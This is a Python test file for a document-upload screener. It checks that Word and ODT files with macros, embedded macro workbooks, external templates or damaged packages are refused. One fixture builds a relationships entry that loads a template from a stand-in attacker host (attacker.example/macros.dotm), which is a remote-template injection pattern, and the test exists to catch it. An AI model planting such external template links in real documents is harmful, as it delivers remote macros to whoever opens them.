"""Word and OpenDocument files: macros refused, damaged packages refused."""

from documents.tests.screening.samples import (
    DOCM_MAIN_TYPE,
    DOCX_MAIN_TYPE,
    checks,
    docx_bytes,
    odt_bytes,
    rezip,
    screen,
)


def _docm() -> bytes:
    def macro_enabled(name, content):
        if name == "[Content_Types].xml":
            return content.replace(DOCX_MAIN_TYPE.encode(), DOCM_MAIN_TYPE.encode())
        return content

    return rezip(
        docx_bytes(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}, replace=macro_enabled
    )


def test_a_macro_enabled_document_renamed_docx_is_refused():
    result = screen("law.docx", _docm())

    assert checks(result) == [("office_macros", "refuse")]
    assert result.findings[0].detail == {"parts": ["word/vbaProject.bin"]}
    assert "macros" in str(result.findings[0].message)


def test_a_vba_project_in_a_docx_is_refused_even_with_the_plain_content_type():
    data = rezip(docx_bytes(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})

    assert checks(screen("law.docx", data)) == [("office_macros", "refuse")]


def test_an_embedded_macro_enabled_workbook_is_refused():
    data = rezip(docx_bytes(), add={"word/embeddings/Microsoft_Excel_Macro.xlsm": b"PK"})

    assert checks(screen("law.docx", data)) == [("office_macros", "refuse")]


def test_a_template_loaded_from_outside_the_document_is_refused():
    relationships = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://attacker.example/macros.dotm" TargetMode="External"/></Relationships>'
    )
    data = rezip(docx_bytes(), add={"word/_rels/settings.xml.rels": relationships})

    result = screen("law.docx", data)

    assert checks(result) == [("office_macros", "refuse")]
    assert result.findings[0].detail == {
        "external_template": "https://attacker.example/macros.dotm"
    }


def test_a_file_named_docm_is_refused_whatever_it_holds():
    assert checks(screen("law.docm", docx_bytes())) == [("office_macros", "refuse")]
    assert checks(screen("template.dotm", b"anything")) == [("office_macros", "refuse")]


def test_an_odt_with_basic_macros_is_refused():
    data = rezip(odt_bytes(), add={"Basic/Standard/Module1.xml": b"<script:module/>"})

    result = screen("law.odt", data)

    assert checks(result) == [("office_macros", "refuse")]
    assert result.findings[0].detail == {"parts": ["Basic/Standard/Module1.xml"]}


def test_an_odt_with_only_an_empty_basic_library_passes():
    data = rezip(odt_bytes(), add={"Basic/script-lc.xml": b"<library:libraries/>"})

    assert screen("law.odt", data).passed


def test_a_docx_without_its_main_part_is_refused():
    data = rezip(docx_bytes(), drop={"word/document.xml"})

    result = screen("law.docx", data)

    assert checks(result) == [("office_malformed", "refuse")]
    assert result.findings[0].detail == {"missing": "word/document.xml"}


def test_a_zip_named_docx_without_content_types_is_refused_as_damaged():
    data = rezip(docx_bytes(), drop={"[Content_Types].xml"})

    assert checks(screen("law.docx", data)) == [("office_malformed", "refuse")]


def test_a_truncated_docx_is_refused_as_damaged():
    data = docx_bytes()

    assert checks(screen("law.docx", data[: len(data) // 2])) == [("office_malformed", "refuse")]


def test_an_odt_without_content_is_refused():
    data = rezip(odt_bytes(), drop={"content.xml"})

    assert checks(screen("law.odt", data)) == [("office_malformed", "refuse")]


def test_a_docx_whose_main_part_is_not_xml_is_refused():
    data = rezip(
        docx_bytes(),
        replace=lambda name, content: b"\x00\x01" if name == "word/document.xml" else content,
    )

    assert checks(screen("law.docx", data)) == [("office_malformed", "refuse")]


def test_an_odt_renamed_docx_is_a_mismatch():
    assert checks(screen("law.docx", odt_bytes())) == [("type_mismatch", "refuse")]
